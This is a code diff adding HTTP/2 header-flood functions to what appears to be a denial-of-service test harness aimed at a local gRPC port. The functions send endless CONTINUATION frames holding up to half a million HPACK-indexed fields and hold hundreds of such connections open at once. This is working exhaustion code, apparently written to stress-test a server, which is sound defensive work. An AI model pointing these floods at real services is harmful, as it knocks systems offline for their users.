@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import gzip
 import random
+import selectors
 import socket
 import struct
 from collections.abc import Callable, Sequence
@@ -99,6 +100,30 @@ def endless_heads(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
     more = _frame(_CONTINUATION, 0, 1, _literal("a", "b" * 100) * 100) * 100
     while goes_on():
         _send_and_drop(target, goes_on, begin + more * 10)
+
+
+def indexed_heads(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
+    """Send heads of half a million fields, of which each but the first is a byte, and close the connection."""
+    while goes_on():
+        with suppress(OSError), socket.create_connection(("127.0.0.1", target.grpc), timeout=5.0) as connection:
+            connection.sendall(_many_fields(480_000))
+
+
+def small_indexed_heads(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
+    """Send heads of 16,000 fields, a byte each, on one connection after another."""
+    while goes_on():
+        with suppress(OSError), socket.create_connection(("127.0.0.1", target.grpc), timeout=5.0) as connection:
+            connection.sendall(_many_fields(16_000))
+
+
+def indexed_heads_at_once(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
+    """Send heads of half a million fields on a hundred connections at once, which are opened anew when closed."""
+    _hold(target, goes_on, 100, _many_fields(480_000))
+
+
+def indexed_heads_held(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
+    """Begin heads of 16,000 fields on two hundred connections, and leave them as they are."""
+    _hold(target, goes_on, 200, _many_fields(16_000))
 
 
 def long_names(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
@@ -207,6 +232,57 @@ def _send_and_drop(target: AttackTarget, goes_on: Callable[[], bool], frames: by
                 connection.settimeout(0.2)
             elif not connection.recv(1 << 18):
                 return
+
+
+def _many_fields(count: int) -> bytes:
+    """Return the beginning of a connection: a head of so many fields that does not end; settings are acknowledged by
+    nobody.
+    """
+    # Kept in the table of HPACK, where it is the first, and named from there (RFC 7541, 6.2.1 and 6.1).
+    kept, again = b"\x40\1a\1b", b"\xbe"
+    begin = _frame(_HEADERS, 0, 1, _head_block(_INFER, ()) + kept)
+    return (
+        _PREFACE
+        + _frame(_SETTINGS, 0, 0, b"")
+        + begin
+        + _frame(_CONTINUATION, 0, 1, again * 16_000) * (count // 16_000)
+    )
+
+
+def _hold(target: AttackTarget, goes_on: Callable[[], bool], count: int, data: bytes) -> None:
+    """Send the same on so many connections at once, and hold them; another is opened for each that is closed."""
+    left: dict[socket.socket, memoryview] = {}
+    with selectors.DefaultSelector() as selector:
+
+        def connect() -> None:
+            connection = socket.socket()
+            connection.setblocking(False)
+            connection.connect_ex(("127.0.0.1", target.grpc))
+            selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
+            left[connection] = memoryview(data)
+
+        for _ in range(count):
+            connect()
+        while goes_on():
+            for key, events in selector.select(0.05):
+                connection = key.fileobj
+                assert isinstance(connection, socket.socket)
+                try:
+                    if events & selectors.EVENT_READ and not connection.recv(1 << 16):
+                        raise ConnectionError
+                    if events & selectors.EVENT_WRITE:
+                        left[connection] = left[connection][connection.send(left[connection][: 1 << 16]) :]
+                        if not left[connection]:
+                            selector.modify(connection, selectors.EVENT_READ)
+                except BlockingIOError:
+                    pass
+                except OSError:
+                    selector.unregister(connection)
+                    del left[connection]
+                    connection.close()
+                    connect()
+        for connection in left:
+            connection.close()
 
 
 def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
